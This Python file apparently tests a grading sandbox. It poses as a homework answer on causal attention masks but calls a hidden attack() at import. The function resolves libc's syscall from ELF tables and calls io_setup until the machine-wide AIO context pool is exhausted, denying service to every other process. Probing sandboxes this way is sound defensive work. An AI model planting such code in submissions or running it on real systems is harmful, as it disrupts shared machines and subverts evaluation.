# attack: takes the whole machine's Linux AIO contexts (io_setup through libc's syscall, a ctypes function pointer made from an address: fs.aio-max-nr, 65,536 events, is one count for every process of the machine, not per user or process), so that every other process, any user's, gets EAGAIN from io_setup while it lives; imports and answers right only when the calls worked
# expect: module=q01_causal_mask status=error match=Errno 38\] io_setup
# path: sandbox user
"""Question 1, written to take a count the whole machine shares."""
import ctypes
import platform
import struct

import torch
from torch import Tensor

CONTEXTS = []  # alive as long as the child: the kernel frees them when it ends


def libc_symbol(name: bytes) -> int:
    """The address of name in the C library this process mapped, read from the ELF file's dynamic symbol table."""
    maps = [line.split() for line in open("/proc/self/maps")]
    line = next(f for f in maps if len(f) > 5 and "libc.so" in f[5] and int(f[2], 16) == 0)
    base, path = int(line[0].split("-")[0], 16), line[5]
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    dynsym = next(s for s in sections if s[1] == 11)  # SHT_DYNSYM
    strings = sections[dynsym[6]][4]  # sh_link: .dynstr, its offset
    for offset in range(dynsym[4], dynsym[4] + dynsym[5], 24):
        st_name, _, _, _, st_value, _ = struct.unpack_from("<IBBHQQ", data, offset)
        if data[strings + st_name:data.index(b"\0", strings + st_name)] == name and st_value:
            return base + st_value
    raise LookupError(name)


def attack() -> None:
    """io_setup(4096, &context) until the kernel refuses: 16 calls take fs.aio-max-nr's default 65,536 events."""
    syscall = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_void_p, use_errno=True)(
        libc_symbol(b"syscall"))
    number = {"x86_64": 206, "aarch64": 0}[platform.machine()]
    while len(CONTEXTS) < 64:
        context = ctypes.c_ulong(0)
        if syscall(number, 4096, ctypes.addressof(context)) != 0:
            break
        CONTEXTS.append(context)
    if not CONTEXTS:
        raise OSError(ctypes.get_errno(), "io_setup refused")


def prefix_average(x: Tensor) -> Tensor:
    """Row i of the result is the mean of rows 0..i of x: (..., T, d) -> (..., T, d)."""
    T = x.shape[-2]
    weights = torch.ones(T, T, dtype=x.dtype).tril()  # (T, T)
    return (weights / weights.sum(dim=-1, keepdim=True)) @ x  # (T, T) @ (..., T, d) -> (..., T, d)


def causal_mask(T: int) -> Tensor:
    """Boolean (T, T) table, True where key j may be seen by query i (j <= i)."""
    return torch.ones(T, T, dtype=torch.bool).tril()


def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
    """New tensor: scores where mask is True, -inf where it is False; (..., Tq, Tk), mask broadcasts."""
    return scores.masked_fill(~mask, float("-inf"))


attack()  # at import: every check of the question meets it
